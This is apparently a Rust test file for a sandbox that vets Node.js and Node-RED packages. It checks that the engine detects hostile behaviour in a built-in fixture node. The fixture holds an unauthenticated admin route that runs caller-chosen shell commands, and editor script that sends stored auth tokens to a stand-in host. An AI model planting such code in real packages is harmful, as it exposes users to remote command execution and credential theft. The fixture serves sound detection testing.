//! The guest's own code: a node in both halves, and its stand-ins beside a real Node.js.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::Command;
use std::sync::OnceLock;

use bytes::Bytes;
use node_vetting::closure::Closure;
use node_vetting::engine::Engine;
use node_vetting::exercise::{Entries, Profile, exercise};
use node_vetting::guest;
use node_vetting::package::Package;
use node_vetting::trace::{End, What};
use node_vetting::world::{Conditions, World};
use npm::{Algorithm, Hasher};
use serde_json::{Value, json};

use crate::support::{budget, client, closure, folder, node};

const CONFORMANCE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../node-vetting/assets/conformance");

/// The engine with the guest's own code; made once.
pub(crate) fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(|| {
        let image = tokio::runtime::Runtime::new()
            .expect("a runtime")
            .block_on(guest::recipe().image(&folder(), &client()))
            .expect("an image");
        Engine::open(&image).expect("an engine")
    })
}

const MANIFEST: &str =
    r#"{"name":"node-red-contrib-pump","version":"1.0.0","node-red":{"nodes":{"pump":"pump.js"}}}"#;
const RUNTIME: &str = r"
module.exports = function (RED) {
  const http = require('http');
  function Station(config) { RED.nodes.createNode(this, config); this.host = config.host; }
  function Pump(config) {
    RED.nodes.createNode(this, config);
    const station = RED.nodes.getNode(config.station);
    this.on('input', (msg, send, done) => {
      http.get(`http://${station.host}/state`, { auth: `line3:${station.credentials.password}` }, (res) => {
        res.resume();
        res.on('end', () => { send({ payload: res.statusCode }); done(); });
      }).on('error', done);
    });
  }
  RED.nodes.registerType('station', Station, { credentials: { password: { type: 'password' } } });
  RED.nodes.registerType('pump', Pump);
  RED.httpAdmin.get('/pump/stop', RED.auth.needsPermission('pump.write'), (req, res) => res.sendStatus(200));
  RED.httpAdmin.get('/pump/shell', (req, res) => { require('child_process').exec(req.query.command); res.end(); });
};
";
const EDITOR: &str = r#"
<script type="text/html" data-template-name="station"><input type="text" id="node-config-input-host"></script>
<script type="text/javascript">
RED.nodes.registerType('station', { category: 'config', defaults: { host: { value: '', required: true, validate: (v) => v.length > 3 } } });
RED.nodes.registerType('pump', { category: 'plant', inputs: 1, outputs: 1, defaults: { name: { value: '' }, station: { type: 'station', required: true } } });
new Image().src = 'https://seen.example/pixel?' + localStorage.getItem('auth-tokens');
</script>
"#;

#[test]
fn a_node_is_exercised_in_both_halves() {
    let closure = closure(&[(
        "node-red-contrib-pump",
        &[
            ("package.json", MANIFEST),
            ("pump.js", RUNTIME),
            ("pump.html", EDITOR),
        ],
    )]);
    assert_eq!(Entries::of(&closure).nodes.len(), 1);
    let observations = exercise(engine(), &closure, &Profile::default()).expect("runs");
    let base = observations.runs.first().expect("the base run");
    assert_eq!(base.end, End::Done);
    let said = |what: &dyn Fn(&What) -> bool| base.events.iter().any(|event| what(&event.what));
    assert!(said(
        &|what| matches!(what, What::RedRegister { node_type, core: false } if node_type == "pump")
    ));
    assert!(said(
        &|what| matches!(what, What::Connect { peer } if peer.configured && peer.protocol == "http")
    ));
    assert!(said(
        &|what| matches!(what, What::Send { peer, payload } if peer.configured
        && payload.secrets.iter().any(|secret| secret == "flow-credential"))
    ));
    assert!(said(
        &|what| matches!(what, What::RedAdminRoute { path, permission: Some(permission), .. }
        if path == "/pump/stop" && permission == "pump.write")
    ));
    assert!(said(
        &|what| matches!(what, What::RedAdminRoute { path, permission: None, .. } if path == "/pump/shell")
    ));
    assert!(said(
        &|what| matches!(what, What::Spawn { command, .. } if command.contains("chosen-by-caller"))
    ));
    assert!(said(&|what| matches!(what, What::EditorToken)));
    assert!(said(
        &|what| matches!(what, What::EditorNetwork { url, payload: _ } if url.starts_with("https://seen.example/"))
    ));
    let failed: Vec<_> = base
        .events
        .iter()
        .filter(|event| matches!(event.what, What::Failed { .. } | What::Uncaught { .. }))
        .collect();
    assert!(failed.is_empty(), "{failed:#?}");
}

/// Every file says the same lines in a real Node.js and in the guest.
#[test]
fn stand_ins_behave_as_in_node() {
    let node = node();
    let package = conformance();
    let closure = Closure::new(package, BTreeMap::new());
    let mut different = Vec::new();
    let mut files = 0;
    for entry in fs::read_dir(CONFORMANCE).expect("the folder of conformance files") {
        let name = entry
            .expect("an entry")
            .file_name()
            .to_string_lossy()
            .into_owned();
        if !name.ends_with(".js") || name == "harness.js" {
            continue;
        }
        files += 1;
        let real = said_by(&node, &name);
        let plan =
            json!({ "half": "answer", "path": format!("/data/node_modules/conformance/{name}") }).to_string();
        let world = World::new(&closure, Conditions::default());
        let ran = engine().run(world, &budget(), &plan).expect("a run");
        let answer: Value = serde_json::from_str(&ran.answer.unwrap_or_default()).unwrap_or_default();
        let ours = answer["answer"]
            .as_str()
            .map_or_else(|| answer.to_string(), str::to_owned);
        let plain = |text: &str| {
            text.replace(CONFORMANCE, "HERE")
                .replace("/data/node_modules/conformance", "HERE")
        };
        let (real, ours) = (plain(&real), plain(&ours));
        for (line, (real, ours)) in (1..).zip(real.lines().zip(ours.lines())) {
            if real != ours {
                different.push(format!("{name}:{line}\n  node {real}\n  ours {ours}"));
            }
        }
        if real.lines().count() != ours.lines().count() {
            different.push(format!(
                "{name}: {} lines, {} expected",
                ours.lines().count(),
                real.lines().count()
            ));
        }
    }
    assert!(files >= 8, "the conformance files are gone");
    assert!(different.is_empty(), "{}", different.join("\n"));
}

/// What a conformance file says in a real Node.js.
fn said_by(node: &Path, file: &str) -> String {
    let output = Command::new(node)
        .args(["--no-warnings", &format!("{CONFORMANCE}/run.cjs"), file])
        .env("TZ", "UTC")
        .output()
        .expect("Node.js runs");
    assert!(
        output.status.success(),
        "{file}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).expect("text")
}

fn conformance() -> Package {
    let mut files = BTreeMap::new();
    read(Path::new(CONFORMANCE), "", &mut files);
    files.insert(
        "package.json".to_owned(),
        Bytes::from_static(br#"{"name":"conformance","version":"1.0.0"}"#),
    );
    Package::from_files(files, Hasher::new(Algorithm::Sha512).finish()).expect("a package")
}

fn read(folder: &Path, prefix: &str, into: &mut BTreeMap<String, Bytes>) {
    for entry in fs::read_dir(folder).expect("the folder can be read") {
        let entry = entry.expect("an entry");
        let name = entry.file_name().to_string_lossy().into_owned();
        if entry.path().is_dir() {
            read(&entry.path(), &format!("{prefix}{name}/"), into);
        } else {
            let content = fs::read(entry.path()).expect("a file");
            into.insert(format!("{prefix}{name}"), content.into());
        }
    }
}
